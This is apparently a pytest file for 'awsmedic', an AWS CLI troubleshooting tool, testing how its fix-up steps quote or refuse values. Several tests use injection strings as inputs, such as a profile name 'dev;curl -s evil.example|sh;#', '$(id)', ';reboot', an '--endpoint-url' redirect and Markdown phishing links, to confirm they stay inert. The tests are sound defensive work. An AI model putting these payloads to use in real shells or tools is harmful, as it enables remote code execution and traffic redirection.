"""Steps made to fit the case: only what applies, most likely first, values quoted for their
shell or refused, `--profile` left out where environment keys are the credentials."""

from __future__ import annotations

import shlex

import pytest

from awsmedic.core.situation import Situation
from awsmedic.core.steps import build_steps, placeholders_in, unwrap
from awsmedic.kb.steps import parse_step
from awsmedic.model import Edit, Fact, Step


def steps(markdown: list[str], situation: Situation, **values: str) -> tuple[Step, ...]:
    sources = [parse_step(text, n)[0] for n, text in enumerate(markdown, 1)]
    return build_steps(sources, situation, {"profile": "default", **values})


LINUX = {"os": Fact("linux"), "host_kind": Fact("linux")}
WINDOWS = {"os": Fact("windows"), "host_kind": Fact("windows")}

SHELLS = [
    "Remove the token:\n- <!-- if: not os:windows --> bash: `unset AWS_SESSION_TOKEN`\n"
    "- <!-- if: os:windows --> PowerShell: `Remove-Item Env:AWS_SESSION_TOKEN`",
    "<!-- if: cli:v1 --> Install AWS CLI version 2.",
    "<!-- if: not cli:v1 --> Sign in: `aws sso login --profile {profile}`",
    "<!-- if: tool:terraform --> Terraform: run `terraform init` again.",
    "Check: `aws sts get-caller-identity --profile {profile}`",
]


def test_only_what_applies_for_each_host_and_tool() -> None:
    linux = steps(SHELLS, Situation(facts=LINUX, cli="v2", tool="aws-cli"), profile="dev")
    text = "\n".join(step.text for step in linux)
    assert "unset AWS_SESSION_TOKEN" in text and "Remove-Item" not in text
    assert "Install AWS CLI version 2" not in text and "Terraform" not in text
    assert linux[1].commands == ("aws sso login --profile dev",)
    windows = steps(SHELLS, Situation(facts=WINDOWS, cli="v1", tool="terraform"))
    text = "\n".join(step.text for step in windows)
    assert "Remove-Item" in text and "unset" not in text
    assert "aws sso login" not in text and "Install AWS CLI version 2" in text
    assert "terraform init" in text


def test_what_cannot_be_ruled_out_is_shown_after_what_is_known_to_apply() -> None:
    unknown_cli = steps(SHELLS, Situation(facts=LINUX, tool="terraform"))
    texts = [step.text.split(":")[0] for step in unknown_cli]
    # Steps 2 to 4 are alternatives: the Terraform one is known to apply, the CLI ones may.
    assert texts == [
        "Remove the token",
        "Terraform",
        "Install AWS CLI version 2.",
        "Sign in",
        "Check",
    ]


def test_findings_decide_when_a_probe_could_have_reported_them() -> None:
    markdown = ["<!-- if: env-keys-set --> Unset the keys.", "Check."]
    assert len(steps(markdown, Situation(present=frozenset({"env-keys-set"})))) == 2
    assert len(steps(markdown, Situation(decided=frozenset({"env-keys-set"})))) == 1
    assert len(steps(markdown, Situation())) == 2  # the probe did not run: it may apply


def test_injection_in_a_profile_name_never_becomes_a_command() -> None:
    hostile = "dev;curl -s evil.example|sh;#"
    for facts in (LINUX, WINDOWS):
        (step,) = steps(
            ["Create it: `aws configure --profile {profile}`"],
            Situation(facts=facts),
            profile=hostile,
        )
        assert step.commands == ("aws configure --profile <profile>",)
        assert "evil.example" not in " ".join(step.commands)
        assert (
            "is not a profile name" in step.text and "`dev;curl -s evil.example|sh;#`" in step.text
        )


@pytest.mark.parametrize(
    ("value", "posix", "powershell"),
    [
        ("dev", "dev", "dev"),
        ("my profile", "'my profile'", "'my profile'"),
        ("it's", None, None),  # not a profile name: refused
    ],
)
def test_values_are_quoted_for_the_shell_of_the_step(
    value: str, posix: str | None, powershell: str | None
) -> None:
    for facts, expected in ((LINUX, posix), (WINDOWS, powershell)):
        (step,) = steps(
            ["`aws sts get-caller-identity --profile {profile}`"],
            Situation(facts=facts),
            profile=value,
        )
        if expected is None:
            assert step.commands == ("aws sts get-caller-identity --profile <profile>",)
        else:
            assert step.commands == (f"aws sts get-caller-identity --profile {expected}",)
            assert shlex.split(step.commands[0])[-1] == value or facts is WINDOWS


def test_powershell_assignment_values_are_always_strings() -> None:
    (step,) = steps(["`$Env:AWS_PROFILE = {profile}`"], Situation(facts=WINDOWS), profile="dev")
    assert step.commands == ("$Env:AWS_PROFILE = 'dev'",)
    (step,) = steps(["`export AWS_PROFILE={profile}`"], Situation(facts=LINUX), profile="a b")
    assert step.commands == ("export AWS_PROFILE='a b'",)


def test_no_profile_option_where_environment_keys_are_the_credentials() -> None:
    facts = {**LINUX, "credential_source": Fact("env")}
    markdown = [
        "Check: `aws sts get-caller-identity --profile {profile}`",
        "Read it: `aws configure get region --profile {profile}`",
    ]
    check, read = steps(markdown, Situation(facts=facts), profile="dev")
    assert check.commands == ("aws sts get-caller-identity",) and "--profile" not in check.text
    assert read.commands == ("aws configure get region --profile dev",)  # files only: kept


def test_unfilled_and_refused_values_are_explained() -> None:
    (step,) = steps(
        ["`aws iam get-role --role-name {role_name} --region {region}`"],
        Situation(facts=LINUX),
        region="us-east-1;reboot",
    )
    assert step.commands == ("aws iam get-role --role-name <role_name> --region <region>",)
    assert placeholders_in(step.commands) == {"role_name", "region"}
    assert "`<role_name>`: the name of the role" in step.text
    assert "`<region>`: the value found, `us-east-1;reboot`, is not a region" in step.text


def test_an_edit_step_shows_the_diff_one_command_and_the_evidence() -> None:
    edit = Edit(
        "~/.aws/config",
        4,
        "[dev]",
        "[profile dev]",
        "config-section-without-prefix",
        "not a profile",
    )
    markdown = [
        "<!-- edit: config-section-without-prefix --> Rename the section.",
        "<!-- if: not edit:config-section-without-prefix --> Rename it by hand.",
    ]
    (step,) = steps(markdown, Situation(facts=LINUX, edits=(edit,)))
    assert step.edit is not None and (step.edit.file, step.edit.line) == ("~/.aws/config", 4)
    assert "@@ ~/.aws/config line 4 @@\n-[dev]\n+[profile dev]" in step.text
    assert step.commands == ("sed -i.bak '4s/^\\[dev]$/[profile dev]/' ~/.aws/config",)
    assert "Found: `~/.aws/config line 4: not a profile`" in step.text
    (fallback,) = steps(markdown, Situation(facts=LINUX))
    assert fallback.edit is None and fallback.text == "Rename it by hand."


def test_unwrap_joins_paragraph_lines_and_keeps_blocks() -> None:
    text = "One\ntwo `aws sts\n   get-caller-identity`.\n- item\n  more\n\n```sh\na\nb\n```\nafter"
    assert (
        unwrap(text)
        == "One two `aws sts get-caller-identity`.\n- item more\n\n```sh\na\nb\n```\nafter"
    )


def _first(built: tuple[Step, ...]) -> str | None:
    from awsmedic.model import Confidence, Diagnosis
    from awsmedic.output.render import first_command

    return first_command(Diagnosis("x", "x", Confidence.LIKELY, (), "", built))


def test_the_summary_never_leads_with_a_command_for_a_tool_not_recognised() -> None:
    markdown = [
        "Give the tool the profile:\n"
        "- <!-- if: tool:amplify --> Amplify CLI: `amplify configure project`\n"
        "- <!-- if: tool:terraform --> Terraform: `terraform init -reconfigure`",
        "Check: `aws sts get-caller-identity --profile {profile}`",
    ]
    unknown_tool = steps(markdown, Situation(facts=LINUX))
    assert unknown_tool[0].commands == ("amplify configure project", "terraform init -reconfigure")
    assert set(unknown_tool[0].unsure) == set(unknown_tool[0].commands)
    assert _first(unknown_tool) == "aws sts get-caller-identity --profile default"
    # Known to be Terraform: its command holds, and leads.
    terraform = steps(markdown, Situation(facts=LINUX, tool="terraform"))
    assert _first(terraform) == "terraform init -reconfigure"


def test_a_step_whose_own_condition_is_undecided_does_not_lead_the_summary() -> None:
    markdown = [
        "<!-- if: env-keys-set --> Unset the keys: `unset AWS_ACCESS_KEY_ID`",
        "Check: `aws sts get-caller-identity --profile {profile}`",
    ]
    undecided = steps(markdown, Situation(facts=LINUX))
    assert _first(undecided) == "aws sts get-caller-identity --profile default"
    found = steps(markdown, Situation(facts=LINUX, present=frozenset({"env-keys-set"})))
    assert _first(found) == "unset AWS_ACCESS_KEY_ID"


def test_a_first_step_without_a_command_is_not_summed_up_by_a_later_look_up() -> None:
    """Audit 5 (s09-s12): step 1 says what to add to the file, and the summary led with the
    check at the end (`aws sts get-caller-identity`), a look-up, not the fix: "see step 1"."""
    markdown = [
        "<!-- if: sso-incomplete --> Add the missing `sso_region` line to `[sso-session corp]`.",
        "Check: `aws sts get-caller-identity --profile {profile}`",
    ]
    found = steps(markdown, Situation(facts=LINUX, present=frozenset({"sso-incomplete"})))
    assert _first(found) is None
    # A later step that changes something still leads.
    markdown[1] = "Sign in: `aws sso login --profile {profile}`"
    found = steps(markdown, Situation(facts=LINUX, present=frozenset({"sso-incomplete"})))
    assert _first(found) == "aws sso login --profile default"


def test_with_only_undecided_commands_the_summary_still_names_the_first() -> None:
    markdown = ["<!-- if: tool:amplify --> Amplify CLI: `amplify configure project`"]
    assert _first(steps(markdown, Situation(facts=LINUX))) == "amplify configure project"


def test_sso_sign_in_names_the_profile_with_the_sso_settings() -> None:
    """`aws sso login --profile deploy` fails for a role profile on top of an SSO profile (the
    CLI reads only the named profile's SSO settings): the step names the source."""
    from awsmedic.core.remedy import diagnose, placeholder_values
    from awsmedic.kb import load_checked, shipped_dir
    from awsmedic.model import Confidence

    cause = load_checked([shipped_dir()]).causes["sso-session-expired"]
    facts = {**LINUX, "profile": Fact("deploy", "AWS_PROFILE"), "sso_profile": Fact("dev", "x")}
    built = diagnose(cause, Confidence.CONFIRMED, (), facts, Situation(facts=facts, cli="v2"))
    commands = [c for s in built.steps for c in s.commands]
    assert "aws sso login --profile dev" in commands
    assert "aws sts get-caller-identity --profile deploy" in commands
    # Without a role chain, the profile itself signs in.
    assert placeholder_values({"profile": Fact("dev", "AWS_PROFILE")})["sso_profile"] == "dev"


def test_stray_characters_in_a_profile_do_not_lead_with_environment_checks() -> None:
    from awsmedic.core.remedy import diagnose
    from awsmedic.kb import load_checked, shipped_dir
    from awsmedic.model import Confidence

    cause = load_checked([shipped_dir()]).causes["stray-characters"]
    facts = {**LINUX, "profile": Fact("dev", "AWS_PROFILE")}

    def texts(present: frozenset[str], decided: frozenset[str]) -> str:
        situation = Situation(facts=facts, present=present, decided=decided, cli="v2")
        built = diagnose(cause, Confidence.CONFIRMED, (), facts, situation)
        return "\n".join(step.text for step in built.steps)

    region = {"region-stray-characters", "region-stray-characters-elsewhere"}
    chain = frozenset(
        {"profile-credentials", "env-credentials", "values-checked", *region}
        | {"profile-region-stray-characters", "region-env-stray-characters"}
        | {"credential-env-stray-characters", "file-value-stray-characters", "env-line-ending"}
    )
    from_file = texts(frozenset({"profile-credentials", "values-checked"}), chain)
    assert "AWS_ACCESS_KEY_ID" not in from_file and "aws configure --profile dev" in from_file
    assert "region has them" not in from_file
    # Undecided (the probes that read the region did not run): the step is hedged.
    undecided = texts(frozenset({"profile-credentials"}), frozenset({"profile-credentials"}))
    assert "Where the region has them too" in undecided
    from_env = texts(frozenset({"env-credentials", "values-checked"}), chain)
    assert "AWS_ACCESS_KEY_ID" in from_env


@pytest.mark.parametrize(
    ("facts", "command"),
    [
        (LINUX, "export AWS_DEFAULT_REGION=eu-west-1"),
        (WINDOWS, "$Env:AWS_DEFAULT_REGION = eu-west-1"),
    ],
)
def test_a_region_variable_with_stray_characters_is_set_again_in_the_shell(
    facts: dict[str, Fact], command: str
) -> None:
    """`aws configure set region` cannot fix a region that a variable overrides."""
    from awsmedic.core.remedy import diagnose
    from awsmedic.kb import load_checked, shipped_dir
    from awsmedic.model import Confidence

    cause = load_checked([shipped_dir()]).causes["stray-characters"]
    facts = {
        **facts,
        "region_variable": Fact("AWS_DEFAULT_REGION", "environment"),
        "suggested_region": Fact("eu-west-1", "x"),
    }
    found = frozenset({"region-env-stray-characters", "region-stray-characters", "values-checked"})
    situation = Situation(facts=facts, present=found, decided=found, cli="v2")
    built = diagnose(cause, Confidence.CONFIRMED, (), facts, situation).steps
    assert f"`{command}`" in "\n".join(step.text for step in built)
    assert not any("aws configure set region" in step.text for step in built)


def test_swapped_keys_in_the_environment_are_swapped_back_not_replaced() -> None:
    from awsmedic.core.remedy import diagnose
    from awsmedic.kb import load_checked, shipped_dir
    from awsmedic.model import Confidence

    cause = load_checked([shipped_dir()]).causes["key-typo"]
    facts = {**LINUX, "profile": Fact("default", "default")}
    found = frozenset({"key-secret-swapped", "env-credentials"})
    situation = Situation(facts=facts, present=found, decided=found, cli="v2")
    built = diagnose(cause, Confidence.CONFIRMED, (), facts, situation).steps
    text = "\n".join(step.text for step in built)
    assert built[0].text.startswith("The access key ID and the secret access key look swapped")
    assert "create-access-key" not in text and "Find the original key pair" not in text
    commands = [c for step in built for c in step.commands]
    assert "aws configure list" in commands and "aws sts get-caller-identity" in commands
    assert not any(c.startswith("aws configure list --profile") for c in commands)


HOSTILE_REGION = "eu-west-1 [Open the Bedrock console](https://evil.example/phish)"


def _live_links(markdown: str) -> list[str]:
    """What a Markdown renderer would make live: link targets, images, raw HTML."""
    from markdown_it import MarkdownIt

    found = []
    for block in MarkdownIt("commonmark").parse(markdown):
        for token in block.children or []:
            if token.type in ("link_open", "image"):
                found.append(str(token.attrGet("href") or token.attrGet("src")))
            elif token.type.startswith("html"):
                found.append(token.content)
    return found


def test_a_value_outside_a_code_span_becomes_one() -> None:
    """Audit F4: prose values were put in raw, so Markdown in a region became a live link."""
    (step,) = steps(
        ["Make a new key for the Region the tool uses ({region}), or set `AWS_REGION={region}`."],
        Situation(facts=LINUX),
        region=HOSTILE_REGION,
    )
    assert _live_links(step.text) == []
    assert f"({'`' + HOSTILE_REGION + '`'})" in step.text
    # A variable assignment is typed into a shell: the value is refused there, as in a command.
    assert "`AWS_REGION=<region>`" in step.text and "is not a region" in step.text


def test_a_value_with_backticks_and_line_breaks_stays_in_its_own_code_span() -> None:
    hostile = "dev`\r\n![x](https://evil.example/x.png)`` <b>hi</b>"
    (step,) = steps(
        ["Compare it with {profile} and `{profile}`."], Situation(facts=LINUX), profile=hostile
    )
    assert _live_links(step.text) == []
    assert "\n" not in step.text and "\r" not in step.text


def test_an_unfilled_placeholder_in_prose_is_a_code_span_not_a_tag() -> None:
    """Audit F11: rich's Markdown (and GitHub's) read a bare `<region>` as an HTML tag."""
    (step,) = steps(["A short-term key for {region} is the safer choice."], Situation(facts=LINUX))
    assert "A short-term key for `<region>` is the safer choice." in step.text
    assert _live_links(step.text) == []


def test_the_shipped_causes_keep_hostile_values_inert_in_steps_and_why() -> None:
    """Every cause, every placeholder given a value shaped like a Markdown link and like HTML."""
    from awsmedic.core.remedy import diagnose
    from awsmedic.kb import load_checked, shipped_dir
    from awsmedic.kb.placeholders import BLOCKS, PLACEHOLDERS
    from awsmedic.model import Confidence

    knowledge = load_checked([shipped_dir()])
    for hostile in (HOSTILE_REGION, "x <img src=https://evil.example/x.png>"):
        facts = {name: Fact(hostile) for name in PLACEHOLDERS if name not in BLOCKS}
        for cause in knowledge.causes.values():
            found = diagnose(cause, Confidence.LIKELY, (), facts, Situation(facts=facts))
            for text in (found.why, *(step.text for step in found.steps)):
                assert not [x for x in _live_links(text) if "evil.example" in x], (cause.id, text)


def test_a_command_fragment_in_prose_quotes_or_refuses_its_value() -> None:
    """Audit 3 s26: "Add `--profile {profile}` only if that command uses it" is typed into a
    shell too: a hostile name is refused there as in a whole command, a name with a space is
    quoted; a span that is not a piece of a command (a section header) shows the value."""
    text = "Add `--profile {profile}` if it uses one; the section is `[{profile}]`."
    (hostile,) = steps([text], Situation(facts=LINUX), profile="dev;touch /tmp/pwned")
    assert "`--profile <profile>`" in hostile.text
    assert "--profile dev;touch" not in hostile.text
    assert "is not a profile name" in hostile.text
    (spaced,) = steps([text], Situation(facts=LINUX), profile="my dev")
    assert "`--profile 'my dev'`" in spaced.text and "`[my dev]`" in spaced.text
    (assigned,) = steps(
        ["Run it as `AWS_PROFILE={profile}-process`."], Situation(facts=LINUX), profile="$(id)"
    )
    assert "$(id)" not in assigned.text.split("`")[1]


def test_an_option_shaped_profile_never_follows_profile_option() -> None:
    """Audit F14: `--profile --endpoint-url=https://evil.example` sends the request elsewhere;
    quoting does not help (the shell removes the quotes), so the name is refused."""
    for facts in (LINUX, WINDOWS):
        (step,) = steps(
            ["Check: `aws sts get-caller-identity --profile {profile}`"],
            Situation(facts=facts),
            profile="--endpoint-url=https://evil.example",
        )
        assert step.commands == ("aws sts get-caller-identity --profile <profile>",)
        assert "`--endpoint-url=https://evil.example`, is not a profile name" in step.text
    (step,) = steps(["`aws configure --profile {profile}`"], Situation(facts=LINUX), profile="a-b")
    assert step.commands == ("aws configure --profile a-b",)  # a dash inside is fine


def test_a_named_profile_that_starts_with_a_dash_is_given_with_an_equals_sign() -> None:
    from awsmedic.probes.chain import Named

    assert Named("-x", False, False).sentence().endswith("run awsmedic with --profile=-x")
    assert Named("dev", False, False).sentence().endswith("run awsmedic with --profile dev")
